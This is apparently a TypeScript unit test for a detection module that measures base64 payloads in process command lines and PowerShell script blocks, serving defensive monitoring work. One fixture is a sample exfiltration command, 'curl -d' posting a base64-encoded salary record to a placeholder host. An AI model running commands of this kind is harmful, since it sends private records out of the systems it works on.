import { expect } from 'chai';

import { payloadMeasures } from '../../src/enrichment/payload.ts';
import { event, policy } from './events.ts';

const payload = 'ZW1wbG95ZWU7dGVhbTtncmFkZTtzYWxhcnkNCkUxMDQyO0xlZ2FsOzc7NjEyNTAuMDA';

describe('payload measures', () => {
  it('of the command line of a launch', () => {
    const launch = event('process_creation', 0, undefined, { CommandLine: `curl -d ${payload} x` });
    payloadMeasures.derive(launch, policy);
    expect(Object.fromEntries(launch.derived)).to.deep.include({
      'tidegate.payload.base64_bytes': 50,
      'tidegate.payload.base64_characters': 67,
      'tidegate.payload.base64_longest': 67,
      'tidegate.payload.base64_runs': 1,
    });
    expect([...launch.derived.keys()].sort()).to.deep.equal([...payloadMeasures.fields].sort());
  });

  it('of a script block', () => {
    const script = event('ps_script', 0, undefined, { ScriptBlockText: `$x = '${payload}'` });
    payloadMeasures.derive(script, policy);
    expect(script.derived.get('tidegate.payload.base64_bytes')).to.equal(50);
  });

  it('not of a command line that another event repeats', () => {
    const read = event(
      'file_access',
      0,
      { pid: 1, commandLine: payload },
      { CommandLine: payload },
    );
    payloadMeasures.derive(read, policy);
    expect(read.derived.size).to.equal(0);
  });

  it('are absent where there is no base64', () => {
    const launch = event('process_creation', 0, undefined, { CommandLine: 'git status --short' });
    payloadMeasures.derive(launch, policy);
    expect(launch.derived.size).to.equal(0);
  });
});
